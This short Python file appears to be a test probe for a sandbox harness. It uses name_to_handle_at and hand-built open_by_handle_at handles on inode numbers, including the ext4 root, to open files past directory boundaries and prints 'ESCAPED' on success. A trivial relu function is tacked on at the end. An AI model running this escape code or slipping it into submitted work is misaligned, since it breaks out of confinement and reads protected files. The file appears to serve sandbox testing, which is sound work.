# Attack: open a file by its number on the disk, past every folder
# Outcome: correct
# Open in: process
import ctypes
import os
import struct

import numpy as np

libc = ctypes.CDLL(None)
mount = ctypes.c_int()
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
for path in (b"@SECRET@", b"/usr", b"."):
    if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
        print("ESCAPED: a handle of", path)
anchor = os.open(".", os.O_RDONLY)
for inode in (2, 11, 12, 13):  # the root of an ext4 file system is number 2
    made = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0), 136)
    if libc.open_by_handle_at(anchor, made, os.O_RDONLY) >= 0:
        print("ESCAPED: opened file number", inode)


def relu(x):
    return np.maximum(x, 0)
